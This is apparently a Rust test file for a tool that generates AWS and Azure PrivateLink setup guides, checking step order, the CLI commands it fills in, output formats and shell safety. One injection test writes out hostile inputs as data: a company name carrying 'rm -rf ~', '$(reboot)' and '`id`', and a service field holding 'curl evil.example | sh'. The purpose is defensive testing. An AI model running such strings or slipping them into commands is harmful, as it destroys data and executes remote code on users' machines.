//! The guide: the steps after the ticket, with the customer's commands filled in. Snapshots of
//! every format for AWS and Azure, unidirectional and bidirectional, with and without the
//! optional network IDs, and for change requests; the shape of the steps; shell safety; the CLI.
#![cfg(not(target_arch = "wasm32"))]

mod common;

use common::{example, run, text};

use privatelink_prep::guide::{guide, render, Actor, Guide};
use privatelink_prep::{check_json, Format, Request};
use serde_json::json;

fn request(name: &str) -> Request {
    check_json(&common::request(name))
        .unwrap()
        .request
        .unwrap_or_else(|| panic!("{name} is not valid"))
}

fn guide_of(name: &str) -> Guide {
    guide(&request(name))
}

const EXAMPLES: &[&str] = &[
    "guide-aws-unidirectional",
    "guide-aws-unidirectional-network",
    "guide-aws-bidirectional",
    "guide-aws-bidirectional-network",
    "guide-azure-unidirectional",
    "guide-azure-unidirectional-network",
    "guide-azure-bidirectional",
    "guide-azure-bidirectional-network",
    #[cfg(feature = "change")]
    "change-aws",
    #[cfg(feature = "change")]
    "change-azure",
];

#[test]
fn snapshots_of_every_format() {
    for name in EXAMPLES {
        let req = request(&format!("{name}.json"));
        let snap = name.strip_prefix("guide-").unwrap_or(name);
        for (format, ext) in [
            (Format::Text, "txt"),
            (Format::Markdown, "md"),
            (Format::Json, "json"),
        ] {
            common::assert_snapshot(&format!("guide-{snap}.{ext}"), &render(&req, format));
        }
    }
}

#[test]
fn json_is_the_guide_data() {
    for name in EXAMPLES {
        let req = request(&format!("{name}.json"));
        let parsed: serde_json::Value = serde_json::from_str(&render(&req, Format::Json)).unwrap();
        assert_eq!(parsed, serde_json::to_value(guide(&req)).unwrap(), "{name}");
    }
}

fn ids(g: &Guide) -> Vec<&str> {
    g.steps.iter().map(|s| s.id.as_str()).collect()
}

#[test]
fn unidirectional_steps_in_order() {
    let g = guide_of("guide-aws-unidirectional.json");
    assert_eq!(
        ids(&g),
        [
            "send-ticket",
            "adobe-allows-account",
            "create-endpoint",
            "adobe-approves",
            "test-production",
            "test-staging"
        ]
    );
    let actors: Vec<Actor> = g.steps.iter().map(|s| s.actor).collect();
    use Actor::{Adobe as A, Customer as C};
    assert_eq!(actors, [C, A, C, A, C, C]);
    assert!(g.steps.iter().all(|s| !s.bidirectional));
    assert_eq!(g.connection_type, Some("unidirectional"));
    assert_eq!(g.business_days, 5);
}

#[test]
fn bidirectional_steps_follow_the_first_connection() {
    let g = guide_of("guide-azure-bidirectional.json");
    assert_eq!(
        ids(&g),
        [
            "send-ticket",
            "adobe-allows-account",
            "create-endpoint",
            "adobe-approves",
            "test-production",
            "test-staging",
            "grant-access",
            "adobe-connects",
            "accept-connections",
            "test-from-adobe-production",
            "test-from-adobe-staging"
        ]
    );
    let bidi: Vec<bool> = g.steps.iter().map(|s| s.bidirectional).collect();
    assert_eq!(
        bidi,
        [false, false, false, false, false, false, true, true, true, true, true]
    );
    assert_eq!(g.steps[7].actor, Actor::Adobe);
}

fn commands(g: &Guide) -> Vec<&str> {
    g.steps
        .iter()
        .flat_map(|s| &s.commands)
        .map(|c| c.command.as_str())
        .collect()
}

#[test]
fn aws_endpoint_command_without_network_ids_has_placeholders() {
    let g = guide_of("guide-aws-unidirectional.json");
    let create = &g.steps[2].commands[0];
    assert_eq!(
        create.command,
        "aws ec2 create-vpc-endpoint --vpc-endpoint-type Interface --service-name <adobe-endpoint-service-name> --vpc-id <your-vpc-id> --subnet-ids <your-subnet-id> --security-group-ids <your-security-group-id> --no-private-dns-enabled --region eu-west-1"
    );
    assert_eq!(
        create.placeholders,
        [
            "<adobe-endpoint-service-name>",
            "<your-vpc-id>",
            "<your-subnet-id>",
            "<your-security-group-id>"
        ]
    );
    let tokens: Vec<&str> = g.placeholders.iter().map(|p| p.token).collect();
    assert!(tokens.contains(&"<your-vpc-id>"));
    assert!(g.placeholders.iter().all(|p| !p.meaning.is_empty()));
}

#[test]
fn aws_endpoint_command_with_empty_id_lists_keeps_their_placeholders() {
    // A VPC ID alone, with empty subnet and security group lists: the lists' placeholders stay,
    // never an option with no value.
    let mut doc: serde_json::Value =
        serde_json::from_str(&common::request("guide-aws-unidirectional.json")).unwrap();
    doc["customer_network"] =
        json!({"vpc_id": "vpc-0c1d2e3f4a5b6c7d8", "subnet_ids": [], "security_group_ids": []});
    let request = check_json(&doc.to_string()).unwrap().request.unwrap();
    let g = guide(&request);
    let create = &g.steps[2].commands[0];
    assert_eq!(
        create.command,
        "aws ec2 create-vpc-endpoint --vpc-endpoint-type Interface --service-name <adobe-endpoint-service-name> --vpc-id vpc-0c1d2e3f4a5b6c7d8 --subnet-ids <your-subnet-id> --security-group-ids <your-security-group-id> --no-private-dns-enabled --region eu-west-1"
    );
}

#[test]
fn aws_endpoint_command_with_network_ids_is_complete() {
    let g = guide_of("guide-aws-unidirectional-network.json");
    let create = &g.steps[2].commands[0];
    assert_eq!(
        create.command,
        "aws ec2 create-vpc-endpoint --vpc-endpoint-type Interface --service-name com.amazonaws.vpce.eu-west-1.vpce-svc-0f1e2d3c4b5a69788 --vpc-id vpc-0c1d2e3f4a5b6c7d8 --subnet-ids subnet-0aa11bb22cc33dd44 subnet-0ee55ff66aa77bb88 --security-group-ids sg-0123456789abcdef0 --no-private-dns-enabled --region eu-west-1"
    );
    assert!(create.placeholders.is_empty());
    let tokens: Vec<&str> = g.placeholders.iter().map(|p| p.token).collect();
    for gone in [
        "<adobe-endpoint-service-name>",
        "<your-vpc-id>",
        "<your-subnet-id>",
    ] {
        assert!(!tokens.contains(&gone), "{gone}");
    }
    assert!(g.steps[1]
        .explanation
        .contains("vpce-svc-0f1e2d3c4b5a69788"));
}

#[test]
fn private_dns_is_never_enabled() {
    for name in EXAMPLES {
        for c in commands(&guide_of(&format!("{name}.json"))) {
            if c.starts_with("aws ec2 create-vpc-endpoint") {
                assert!(c.contains(" --no-private-dns-enabled "), "{c}");
            }
            assert!(!c.contains(" --private-dns-enabled"), "{c}");
        }
    }
}

#[test]
fn aws_bidirectional_commands_name_the_service_id() {
    let cmds = guide_of("guide-aws-bidirectional.json");
    let cmds = commands(&cmds);
    for want in [
        "aws ec2 modify-vpc-endpoint-service-permissions --service-id vpce-svc-0a1b2c3d4e5f60718 --add-allowed-principals arn:aws:iam::402592597372:root --region eu-west-1",
        "aws ec2 describe-vpc-endpoint-service-permissions --service-id vpce-svc-0a1b2c3d4e5f60718 --region eu-west-1",
        "aws ec2 accept-vpc-endpoint-connections --service-id vpce-svc-0a1b2c3d4e5f60718 --vpc-endpoint-ids <adobe-endpoint-id> --region eu-west-1",
        // Pro Production is reached with the Cloud Console's ssh command, not magento-cloud.
        "ssh <ssh-access>",
        "curl -v telnet://<endpoint-dns>:8443/",
        "netstat -na | grep 9000",
        "tcpdump -i <interface> -tt -nn port 9000 and host <source-host>",
    ] {
        assert!(cmds.contains(&want), "missing {want}");
    }
}

#[test]
fn azure_commands_fill_in_what_the_resource_id_tells() {
    let g = guide_of("guide-azure-bidirectional-network.json");
    let cmds = commands(&g);
    for want in [
        "az network private-endpoint create --resource-group rg-network --name adobe-commerce-c0nt0s0ph4rm4 --location westeurope --vnet-name vnet-hub --subnet snet-private-endpoints --private-connection-resource-id /subscriptions/6c8e3a41-5b2d-4e7f-9a1c-2d3e4f5a6b7c/resourceGroups/adobe-commerce-westeurope/providers/Microsoft.Network/privateLinkServices/pls-pro-cluster-7f3a --connection-name adobe-commerce-c0nt0s0ph4rm4-connection --manual-request true --request-message 'PrivateLink for Adobe Commerce project c0nt0s0ph4rm4'",
        // The resource group of a resource ID is quoted: parentheses mean something to the shell.
        "az network private-link-service update --resource-group 'rg-erp(prod)' --name pls-erp --subscription 0f8fad5b-d9cb-469f-a165-70867728950e --visibility <adobe-subscription-id> --auto-approval <adobe-subscription-id>",
        // An alias does not name the resource group or the service.
        "az network private-link-service update --resource-group <pls-resource-group> --name <pls-name> --visibility <adobe-subscription-id> --auto-approval <adobe-subscription-id>",
        "az network private-endpoint-connection approve --resource-group 'rg-erp(prod)' --resource-name pls-erp --subscription 0f8fad5b-d9cb-469f-a165-70867728950e --type Microsoft.Network/privateLinkServices --name <connection-name> --description 'Approved for Adobe Commerce'",
    ] {
        assert!(cmds.contains(&want), "missing {want}");
    }
}

#[test]
fn udp_ports_are_not_tested_with_curl() {
    let doc = common::doc(
        "guide-aws-bidirectional.json",
        json!({"endpoint_services": [{
            "name": "com.amazonaws.vpce.eu-west-1.vpce-svc-0a1b2c3d4e5f60718",
            "ports": [{"service": "Syslog", "port": 514, "protocol": "udp"}],
            "principal_allowed": true
        }]}),
    );
    let req = privatelink_prep::check(&doc).request.unwrap();
    let g = guide(&req);
    let step = g
        .steps
        .iter()
        .find(|s| s.id == "test-from-adobe-production")
        .unwrap();
    assert!(step.commands.iter().all(|c| !c.command.starts_with("curl")));
    assert!(step
        .commands
        .iter()
        .any(|c| c.command == "tcpdump -i <interface> -tt -nn port 514 and host <source-host>"));
    assert!(step
        .explanation
        .contains("curl tests TCP only: test UDP port 514"));
}

/// The command with quoted strings, placeholders and the one captured command substitution of
/// the Azure IP lookup (`nic="$(…)" && … "$nic"`) and of the listeners of an endpoint
/// service's load balancer (`nlb="$(…)" && … "$nlb"`) taken out: what the shell reads as syntax.
fn syntax(command: &str) -> String {
    let mut out = String::new();
    let mut quoted = false;
    let command = command
        .replacen("nic=\"$(", " ", 1)
        .replacen("nlb=\"$(", " ", 1)
        .replacen(")\" && ", " ", 1)
        .replace("\"$nic\"", " ")
        .replace("\"$nlb\"", " ");
    for c in command.chars() {
        match c {
            '\'' => quoted = !quoted,
            c if !quoted => out.push(c),
            _ => {}
        }
    }
    assert!(!quoted, "unbalanced quotes: {command}");
    let command = command.as_str();
    let mut plain = String::new();
    let mut rest = out.as_str();
    while let Some(i) = rest.find('<') {
        plain.push_str(&rest[..i]);
        let end = rest[i..].find('>').expect("placeholder closes") + i;
        let token = &rest[i + 1..end];
        assert!(
            token.bytes().all(|b| b.is_ascii_lowercase() || b == b'-'),
            "odd placeholder <{token}> in {command}"
        );
        rest = &rest[end + 1..];
    }
    plain.push_str(rest);
    plain
}

#[test]
fn every_command_is_shell_safe() {
    for name in EXAMPLES {
        let g = guide_of(&format!("{name}.json"));
        for c in commands(&g) {
            let s = syntax(c);
            for bad in [
                '`', ';', '&', '>', '<', '$', '(', ')', '"', '\\', '\n', '*', '?', '[', '{', '~',
                '#',
            ] {
                assert!(!s.contains(bad), "{bad:?} unquoted in {c}");
            }
            // The only pipe is netstat's.
            assert!(
                !s.contains('|') || c.starts_with("netstat -na | grep "),
                "{c}"
            );
        }
    }
}

#[test]
fn a_name_that_starts_with_a_dash_is_never_read_as_an_option() {
    // Azure allows a resource group to start with `-`: quoting alone would leave it an option.
    let doc = common::doc(
        "guide-azure-bidirectional-network.json",
        json!({"customer_network": {"resource_group": "-rf"}}),
    );
    let req = privatelink_prep::check(&doc).request.unwrap();
    let g = privatelink_prep::guide::guide(&req);
    let with: Vec<&str> = commands(&g)
        .into_iter()
        .filter(|c| c.contains("-rf"))
        .collect();
    assert!(with.len() >= 3, "{with:?}");
    for c in with {
        assert!(c.contains("--resource-group='-rf'"), "{c}");
        assert!(!c.contains(" '-rf'"), "{c}");
    }
}

#[test]
fn a_placeholder_in_the_ip_lookup_stops_the_whole_command() {
    let g = guide_of("guide-azure-unidirectional.json");
    let c = commands(&g)
        .into_iter()
        .find(|c| c.contains("az network nic show"))
        .unwrap();
    // The lookup runs first; `&&` runs `nic show` only when it succeeded.
    assert!(
        c.starts_with(
            "nic=\"$(az network private-endpoint show --resource-group <your-resource-group> "
        ),
        "{c}"
    );
    assert!(
        c.contains(")\" && az network nic show --ids \"$nic\" "),
        "{c}"
    );
}

#[test]
fn hostile_text_never_reaches_a_command() {
    let doc = common::doc(
        "guide-azure-bidirectional-network.json",
        json!({
            "company": "Evil'; rm -rf ~ $(reboot) `id`",
            "ports": [{"service": "$(curl evil.example | sh)", "port": 9200}]
        }),
    );
    let req = privatelink_prep::check(&doc).request.unwrap();
    for format in [Format::Text, Format::Markdown, Format::Json] {
        let out = render(&req, format);
        for line in out.lines() {
            let cmd = line.trim_start().trim_start_matches("$ ");
            if cmd.starts_with("az ") || cmd.starts_with("curl ") || cmd.starts_with("tcpdump ") {
                assert!(!cmd.contains("rm -rf") && !cmd.contains("evil"), "{cmd}");
            }
        }
    }
    let md = render(&req, Format::Markdown);
    assert!(md.starts_with(
        "# PrivateLink enablement guide for Evil\\'; rm \\-rf \\~ \\$\\(reboot\\) \\`id\\`\n"
    ));
    assert!(md.contains("9200/TCP (\\$\\(curl evil\\.example \\| sh\\))"));
}

#[cfg(feature = "change")]
#[test]
fn change_guide_steps() {
    let g = guide_of("change-aws.json");
    assert_eq!(g.kind, "change");
    assert_eq!(g.connection_type, None);
    assert_eq!(
        ids(&g),
        [
            "send-ticket",
            "adobe-applies",
            "change-1-clean-up",
            "change-2-create-endpoint",
            "change-2-adobe-approves",
            "change-2-test",
            "change-3-grant-access",
            "change-3-adobe-connects",
            "change-3-accept-connection",
            "change-3-test-production",
            "change-4-revoke-access",
            "change-5-adobe-adds-environment",
            "change-5-test",
            "change-6-test-production",
            "change-7-ports-closed"
        ]
    );
    // The Cloud Console's ssh command in every step that opens a shell; never magento-cloud ssh.
    assert!(!commands(&g).iter().any(|c| c.starts_with("magento-cloud")));
    assert!(g.steps[0]
        .explanation
        .contains("PrivateLink change for Acme Outdoor, Inc."));
    let cmds = commands(&g);
    assert!(cmds.contains(&"aws ec2 modify-vpc-endpoint-service-permissions --service-id vpce-svc-0fedcba9876543210 --remove-allowed-principals arn:aws:iam::402592597372:root --region us-east-1"));
    assert!(cmds.contains(&"ssh <ssh-access>"));
    assert!(cmds.contains(&"curl -v telnet://<adobe-endpoint-dns>:<port>/"));
    // Ports opened on Adobe's side are tested from the customer's network, each port.
    assert!(cmds.contains(&"curl -v telnet://<adobe-endpoint-dns>:6379/"));
}

// The CLI.

#[test]
fn cli_guide_valid_exits_0_in_every_format() {
    let req = request("guide-aws-bidirectional-network.json");
    for (flag, format) in [
        (None, Format::Text),
        (Some("text"), Format::Text),
        (Some("markdown"), Format::Markdown),
        (Some("json"), Format::Json),
    ] {
        let file = example("guide-aws-bidirectional-network.json");
        let mut args = vec!["guide"];
        if let Some(f) = flag {
            args.extend(["--format", f]);
        }
        args.push(&file);
        let out = run(&args, None);
        assert_eq!(out.status.code(), Some(0), "{flag:?}");
        assert_eq!(text(&out.stdout), render(&req, format), "{flag:?}");
        assert!(out.stderr.is_empty());
    }
}

#[cfg(feature = "change")]
#[test]
fn cli_guide_reads_standard_input_and_change_requests() {
    let out = run(&["guide", "-"], Some(&common::request("change-azure.json")));
    assert_eq!(out.status.code(), Some(0));
    assert!(text(&out.stdout)
        .starts_with("PrivateLink change guide for Fabrikam <Wholesale> & *Sons*\n"));
}

#[test]
fn cli_guide_invalid_exits_1_with_the_report_on_stderr() {
    let out = run(
        &["guide", "-"],
        Some(r#"{"company": "Acme", "cloud": "aws"}"#),
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty());
    let err = text(&out.stderr);
    assert!(err.contains("error[PL121]: The region is missing"), "{err}");
    assert!(
        err.ends_with("invalid: 7 errors, 0 warnings, 0 infos\n"),
        "{err}"
    );
}

#[test]
fn cli_guide_unreadable_or_not_json_exits_2() {
    let out = run(&["guide", "/nonexistent/request.json"], None);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).starts_with("privatelink-prep: cannot read /nonexistent/request.json")
    );
    let out = run(&["guide", "-"], Some("{not json"));
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).starts_with("privatelink-prep: standard input is not valid JSON"));
    let out = run(&["guide", "--format", "html", "-"], Some("{}"));
    assert_eq!(out.status.code(), Some(2));
    let out = run(&["guide"], None);
    assert_eq!(out.status.code(), Some(2));
}

#[cfg(feature = "change")]
#[test]
fn cli_ticket_works_for_change_requests() {
    let out = run(&["ticket", &example("change-aws.json")], None);
    assert_eq!(out.status.code(), Some(0));
    assert!(text(&out.stdout).starts_with("Subject: PrivateLink change for Acme Outdoor, Inc.\n\n"));
}

#[test]
fn usage_lists_guide() {
    let out = run(&["--help"], None);
    assert!(text(&out.stdout)
        .contains("privatelink-prep guide  [--format text|markdown|json] <FILE|->"));
}
